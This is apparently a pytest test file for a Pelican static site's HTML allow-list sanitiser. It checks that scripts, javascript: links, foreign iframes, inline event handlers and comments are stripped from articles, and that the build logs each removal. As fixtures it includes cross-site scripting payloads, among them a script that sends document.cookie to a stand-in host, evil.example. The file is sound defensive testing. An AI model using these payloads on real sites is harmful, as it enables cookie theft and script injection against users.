"""Raw HTML in articles is cleaned at build time by an allow-list (plugins/directory/sanitise.py): a script, a
``javascript:`` link and a foreign frame never reach the built page, the build warns with the file, the line and the
field of each, and what articles legitimately hold (headings, lists, links, emphasis, tables, abbreviations) comes
out byte for byte as Markdown wrote it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from pelican.readers import MarkdownReader
from pelican.settings import read_settings

from plugins.directory.sanitise import clean
from tests.site.sitebuild import ROOT, build, copy_content

HOSTILE = """

## Ce qu'il faut savoir

<script>fetch("https://evil.example/?c=" + document.cookie)</script>

Appelez [le centre antipoison](javascript:alert(document.domain)) si besoin.

<iframe src="https://evil.example/frame"></iframe>

<p onmouseover="alert(1)">Survolez <a href="https://www.who.int/" onclick="steal()">l'OMS</a>.</p>

<!-- une note qui ne doit pas sortir -->
"""
ARTICLE = Path("articles") / "fr" / "asthme.md"


def test_what_articles_hold_is_kept_as_it_is() -> None:
    kept = (
        '<h2 id="x">Titre</h2><h3>Sous-titre</h3><p>Du <strong>gras</strong>, de l\'<em>italique</em>, '
        '<abbr title="Organisation mondiale de la santé">OMS</abbr>, <code>x</code>.</p>'
        '<ul><li>un</li></ul><ol start="3"><li>trois</li></ol><blockquote><p>cité</p></blockquote>'
        '<p><a href="https://www.who.int/">OMS</a> <a href="/fr/articles/asthma/">asthme</a> '
        '<a href="mailto:contact@example.mc">écrire</a> <a href="tel:+37793000000">appeler</a></p>'
        '<table><thead><tr><th scope="col">Âge</th></tr></thead><tbody><tr><td colspan="2">2 mois</td></tr>'
        "</tbody></table><hr><p>fin<br>ligne</p>"
    )
    assert clean(kept) == kept


@pytest.mark.parametrize(
    ("html", "gone"),
    [
        ("<p>a</p><script>alert(1)</script>", "alert"),
        ('<a href="javascript:alert(1)">x</a>', "javascript"),
        ('<a href="JaVaScRiPt&colon;alert(1)">x</a>', "alert"),
        ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>', "data:"),
        ('<iframe src="https://evil.example/"></iframe>', "evil.example"),
        ('<img src="x" onerror="alert(1)">', "onerror"),
        ('<p style="background:url(javascript:alert(1))">x</p>', "style"),
        ("<svg><script>alert(1)</script></svg>", "alert"),
        ("<form action='https://evil.example/'><input name=password></form>", "evil.example"),
        ("<p>x</p><!-- <script>alert(1)</script> -->", "alert"),
    ],
)
def test_what_runs_or_leaves_the_site_is_removed(html: str, gone: str) -> None:
    assert gone.casefold() not in clean(html).casefold()


def test_the_articles_and_pages_of_content_are_unchanged_by_the_cleaning() -> None:
    """Every article and page of content/, and its summary, as Pelican renders them: the cleaning changes nothing,
    so their built pages are byte for byte what they were."""
    reader = MarkdownReader(read_settings(str(ROOT / "pelicanconf.py")))
    paths = sorted((ROOT / "content" / "articles").glob("*/*.md")) + sorted((ROOT / "content" / "pages").glob("*/*.md"))
    assert len(paths) > 50
    for path in paths:
        html, metadata = reader.read(str(path))
        assert clean(html) == html, path
        assert clean(str(metadata.get("summary", ""))) == str(metadata.get("summary", "")), path


def line_of(path: Path, fragment: str) -> int:
    return next(n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if fragment in line)


def test_a_hostile_article_is_built_clean_with_a_warning_for_each_removal(tmp_path: Path) -> None:
    content = copy_content(tmp_path / "content")
    source = content / ARTICLE
    source.write_text(source.read_text(encoding="utf-8") + HOSTILE, encoding="utf-8")
    result = build(tmp_path / "output", content, quiet=False)
    assert result.returncode == 0, result.stderr[-3000:]
    said = " ".join((result.stdout + result.stderr).split())  # the log handler may wrap long lines
    where = f"content/{ARTICLE.as_posix()}"
    expected = {
        "<script>": line_of(source, "<script>"),
        'href="javascript:alert(document.domain)" on <a>': line_of(source, "javascript:"),
        "<iframe>": line_of(source, "<iframe"),
        'onmouseover="alert(1)" on <p>': line_of(source, "onmouseover"),
        'onclick="steal()" on <a>': line_of(source, "onclick"),
        "an HTML comment": line_of(source, "<!--"),
    }
    for what, line in expected.items():
        assert f"{where}:{line}: content: removed {what}" in said, what

    page = (tmp_path / "output" / "fr" / "articles" / "asthma" / "index.html").read_text(encoding="utf-8")
    article = page[page.index("<main") : page.index("</main>")]
    for gone in ("evil.example", "javascript:", "document.cookie", "onmouseover", "onclick", "<iframe", "<script"):
        assert gone not in article, gone
    assert "une note qui ne doit pas sortir" not in page
    assert re.search(r'<a href="https://www.who.int/">l(\'|&#39;|&#x27;)OMS</a>', article)  # the link stays
    assert "le centre antipoison" in article  # the text of the refused link stays, as text
